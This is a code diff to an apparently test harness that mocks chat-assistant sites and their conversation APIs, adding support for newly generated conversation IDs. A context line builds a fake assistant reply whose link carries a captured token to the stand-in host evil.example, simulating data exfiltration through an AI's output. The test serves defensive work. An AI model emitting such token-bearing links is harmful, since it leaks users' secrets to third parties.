@@ -114,17 +114,18 @@ export async function routeSites(context) {
         const answer = tokens.length
           ? `I will write to ${tokens.join(' and ')} today. Link: <https://evil.example/?e=${tokens[0]}>`
           : 'Nothing to protect there.';
-        const h = history.get(parsed.conversation_id) ?? [];
+        const id = parsed.conversation_id === 'new' ? `gen-${history.size + 1}` : parsed.conversation_id;
+        const h = history.get(id) ?? [];
         h.push({ role: 'user', text }, { role: 'assistant', text: answer });
-        history.set(parsed.conversation_id, h);
-        return route.fulfill({ contentType: 'application/json', body: JSON.stringify({ answer }) });
+        history.set(id, h);
+        return route.fulfill({ contentType: 'application/json', body: JSON.stringify({ answer, conversation_id: id }) });
       }
       if (url.pathname.startsWith(`${s.api}/`) && req.method() === 'GET') {
         const conv = url.pathname.slice(s.api.length + 1);
         return route.fulfill({ contentType: 'application/json', body: JSON.stringify({ messages: history.get(conv) ?? [] }) });
       }
-      const conv = Object.keys(SITES).includes(site) ? url.pathname.split('/').pop() : '';
-      if (url.pathname === s.path(conv)) {
+      const conv = url.pathname === '/' ? 'new' : url.pathname.split('/').pop();
+      if (url.pathname === '/' || url.pathname === s.path(conv)) {
         return route.fulfill({ contentType: 'text/html', headers: { 'content-security-policy': NO_WASM_CSP }, body: page(site, conv) });
       }
       return route.fulfill({ status: 404, body: '' });
